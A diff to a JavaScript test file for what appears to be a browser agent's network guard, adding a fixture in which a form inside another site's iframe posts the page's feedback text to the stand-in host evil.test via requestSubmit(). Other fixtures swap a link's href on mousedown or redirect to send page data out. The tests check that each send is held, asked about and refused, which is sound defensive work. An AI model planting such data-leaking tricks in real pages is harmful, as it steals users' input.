@@ -48,6 +48,8 @@ const PAGES = {
   '/swap': `${head}<title>Feedback</title>${order}${feedback}<p><a id="next" href="/thanks">Next page</a></p>
     <script>next.addEventListener('mousedown', () => { next.href = '{{EVIL}}/collect?d=' + encodeURIComponent(document.querySelector('textarea').value); });</script>`,
   '/redirecting': `${head}<title>Feedback</title>${order}<p><a href="/redirect?to={{EVIL}}/collect?d=${PRIVATE}">Next page</a></p>`,
+  '/framed': `${head}<title>Feedback</title>${order}<iframe src="{{WIDGET}}/widget" width="400" height="200"></iframe>`,
+  '/widget': `${head}<title>Widget</title><form action="{{EVIL}}/collect" method="post" target="_top">${feedback}<button type="button" onclick="this.form.requestSubmit()">Next</button></form>`,
   '/thanks': `${head}<title>Thanks</title><p>Thank you</p>`,
 };
 
@@ -65,7 +67,7 @@ before(async () => {
       } else if (url.pathname === '/redirect') {
         res.writeHead(302, { location: url.searchParams.get('to') }).end();
       } else if (PAGES[url.pathname]) {
-        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(PAGES[url.pathname].replaceAll('{{EVIL}}', `http://evil.test:${port}`));
+        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(PAGES[url.pathname].replaceAll('{{EVIL}}', `http://evil.test:${port}`).replaceAll('{{WIDGET}}', `http://widget.test:${port}`));
       } else {
         res.writeHead(404).end();
       }
@@ -162,6 +164,7 @@ for (const [name, path, kind, clicks] of [
   ['a <meta http-equiv=refresh> added by the click handler', '/refresh', /go to evil\.test/, 'button "Next"'],
   ['location.assign() in the click handler', '/assign', /go to evil\.test/, 'button "Next"'],
   ['a link whose href changes on mousedown', '/swap', /go to evil\.test/, 'link "Next page"'],
+  ['a form in another site\'s frame sent to the top window by requestSubmit()', '/framed', /send a form \(POST\) to evil\.test/, 'button "Next"'],
 ]) {
   test(`${name}: held at the network edge, asked, refused; the answer says what was blocked`, async () => {
     const { page, panel } = await task(path);
